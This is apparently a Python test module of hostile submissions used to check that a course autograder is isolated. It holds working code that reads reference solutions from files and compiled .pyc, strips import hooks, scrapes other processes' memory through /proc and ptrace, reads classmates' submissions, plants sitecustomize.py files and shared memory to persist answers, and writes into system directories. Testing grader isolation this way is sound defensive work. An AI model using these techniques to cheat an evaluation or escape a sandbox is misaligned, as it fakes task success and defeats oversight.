"""Attacks that look for a right answer elsewhere: in the course, in the judge, in other submissions, in the network.

Each comes with the answer 0 where it finds nothing, so a point means that it found something.
"""

from grading_hostile import Attack

USE = """
import glob, importlib, os, sys

def use(text, *arguments):
    for name in ("weigh",):
        try:
            names = {"np": __import__("numpy")}
            exec(text[text.index("def weigh("):].split("\\n\\n\\n")[0], names)
            value = names["weigh"](*arguments)
            if value is not None:
                return value
        except Exception:
            pass
"""
FILES = USE + """
PLACES = ["{project}", "{project}/imgrec_lib", "/proc/1/root{project}", "/proc/self/root{project}", "/proc/self/cwd",
          *sys.path, *map(os.path.dirname, sys.path), os.path.dirname(os.path.dirname(os.__file__)), "/proc/1/cwd"]

def weigh(window, kernel):
    for place in PLACES:
        for pattern in ("**/lesson_02/weighing.py", "imgrec_lib/exercises/**/*.py", "exercises/**/*.py",
                        "site-packages/imgrec_lib/exercises/**/*.py"):
            for path in glob.glob(os.path.join(place, pattern), recursive=pattern[0] != "*" or "{project}" == place):
                try:
                    value = use(open(path).read(), window, kernel)
                except OSError:
                    continue
                if value is not None:
                    return value
    return 0.0
"""
COMPILED = USE + """
import marshal, types

def weigh(window, kernel):
    for path in glob.glob("{project}/imgrec_lib/exercises/**/weighing*.pyc", recursive=True):
        code = marshal.loads(open(path, "rb").read()[16:])
        for one in code.co_consts:
            if isinstance(one, types.CodeType) and one.co_name == "weigh":
                return types.FunctionType(one, {})(window, kernel)
    return 0.0
"""
IMPORTED = USE + """
sys.meta_path[:] = [one for one in sys.meta_path if "imgrec" not in type(one).__module__]
importlib.invalidate_caches()
for name in [*sys.modules]:
    if name.startswith("imgrec_lib"):
        del sys.modules[name]
sys.path[:0] = ["{project}", "/proc/1/root{project}"]

def weigh(window, kernel):
    for name in ("imgrec_lib.exercises.lesson_02.weighing", "imgrec_lib.exercises.lesson_02", "imgrec_lib.exercises"):
        try:
            module = importlib.import_module(name)
            found = getattr(module, "weigh", None) or module.catalogue()["02.weigh"]
            value = found.reference(window, kernel)
        except Exception:
            continue
        if isinstance(value, (int, float)) or hasattr(value, "dtype"):
            return value
    return 0.0
"""
JUDGE = USE + """
import ctypes, re

C = ctypes.CDLL(None, use_errno=True)

def memories():
    for number in {os.getppid(), 1, *range(2, 300)} - {os.getpid()}:
        for name in ("environ", "cmdline", "mem"):
            try:
                with open(f"/proc/{number}/{name}", "rb") as file:
                    if name != "mem":
                        yield file.read()
                        continue
                    for line in open(f"/proc/{number}/maps"):
                        begin, end = (int(one, 16) for one in line.split()[0].split("-"))
                        file.seek(begin)
                        yield file.read(min(end - begin, 10_000_000))
            except (OSError, ValueError, OverflowError):
                continue

def weigh(window, kernel):
    traced = [C.ptrace(16, number, 0, 0) for number in (os.getppid(), 1)]
    opened = C.syscall(434, os.getppid(), 0)
    taken = [C.syscall(438, opened, number, 0) for number in range(30)] if opened >= 0 else []
    found = [one for one in (*traced, *taken) if one >= 0]
    for text in memories():
        at = text.find(b"def weigh(window: np.ndarray")
        if at >= 0:
            value = use(text[at : at + 400].decode("utf-8", "replace"), window, kernel)
            if value is not None:
                return value
    if found:
        raise RuntimeError(f"traced {found}")
    return 0.0
"""
OTHERS = USE + """
def weigh(window, kernel):
    for top in ("{classroom}", "/proc/1/root{classroom}", "/proc/self/root{classroom}", "..", "{report}", "{home}"):
        for place, _, names in os.walk(top):
            for name in names:
                try:
                    text = open(os.path.join(place, name), errors="replace").read()
                    value = use(text.replace('\\\\n", "', "\\n").replace("\\\\n", "\\n"), window, kernel)
                except OSError:
                    continue
                if value is not None:
                    return value
    return 0.0
"""
NETWORK = USE + """
import socket, urllib.request

def weigh(window, kernel):
    for address in (("127.0.0.1", {port}), ("localhost", {port})):
        try:
            with socket.create_connection(address, timeout=1) as stream:
                value = use(stream.recv(10_000).decode(), window, kernel)
            if value is not None:
                return value
        except OSError:
            pass
    for address in ("\\0{mark}", "{home}/socket", ("192.0.2.1", 53)):
        family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
        try:
            with socket.socket(family, socket.SOCK_STREAM) as stream:
                stream.settimeout(1)
                stream.connect(address)
                return 1.0
        except OSError:
            pass
    return 0.0
"""
CARRIED = """
import os, sys
SOLUTION = "def weigh(window, kernel):\\n    return float((window.astype(float) * kernel).sum())\\n"
for place in ("~", "~/.config", "~/.ipython/profile_default/startup", "/dev/shm", "/tmp", "/var/tmp", "."):
    try:
        os.makedirs(os.path.expanduser(place), exist_ok=True)
        for name in ("carried.py", "sitecustomize.py", "usercustomize.py"):
            with open(os.path.join(os.path.expanduser(place), name), "w") as file:
                file.write(SOLUTION)
    except OSError:
        pass
sys.modules["carried"] = type(sys)("carried")
exec(SOLUTION, vars(sys.modules["carried"]))
sys.carried = vars(sys.modules["carried"])["weigh"]
try:
    from multiprocessing import shared_memory
    memory = shared_memory.SharedMemory("carried", create=True, size=1000)
    memory.buf[: len(SOLUTION)] = SOLUTION.encode()
except OSError:
    pass
"""
RECEIVED = USE + """
from multiprocessing import shared_memory

def weigh(window, kernel):
    if hasattr(sys, "carried"):
        return sys.carried(window, kernel)
    for place in ("~", "~/.config", "~/.ipython/profile_default/startup", "/dev/shm", "/tmp", "/var/tmp", "."):
        for path in glob.glob(os.path.join(os.path.expanduser(place), "*")):
            try:
                value = use(open(path, errors="replace").read(), window, kernel)
            except OSError:
                continue
            if value is not None:
                return value
    try:
        return use(bytes(shared_memory.SharedMemory("carried").buf).decode(), window, kernel)
    except OSError:
        return 0.0
"""
WRITES = """
import os, pathlib
for place in (
    "{home}", "{classroom}", "{report}", "{temporary}", "{project}", "{project}/imgrec_lib", "{project}/notebooks",
    "{classroom}/b-honest", "{report}/feedback", "/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/etc", "/usr",
):
    try:
        pathlib.Path(place, "{mark}").write_text("x")
    except OSError:
        pass
for path in [path for top in ("{classroom}", "{report}", "{home}") for path in pathlib.Path(top).rglob("*")]:
    try:
        path.write_text("x")
        path.unlink()
    except OSError:
        pass
for number in range(3, 256):
    try:
        if not os.path.realpath(f"/proc/self/fd/{number}").startswith("/proc/self/fd/socket"):
            os.write(number, b"x")
    except OSError:
        pass
"""

ATTACKS = (
    Attack("reads-files", {"weigh": FILES}),
    Attack("reads-compiled", {"weigh": COMPILED}),
    Attack("imports", {"weigh": IMPORTED}),
    Attack("reads-the-judge", {"weigh": JUDGE}),
    Attack("reads-others", {"weigh": OTHERS}),
    Attack("network", {"weigh": NETWORK}),
    Attack("carried-1", before=CARRIED),
    Attack("carried-2", before=CARRIED),
    Attack("received-1", {"weigh": RECEIVED}),
    Attack("received-2", {"weigh": RECEIVED}),
    Attack("writes", before=WRITES),
)
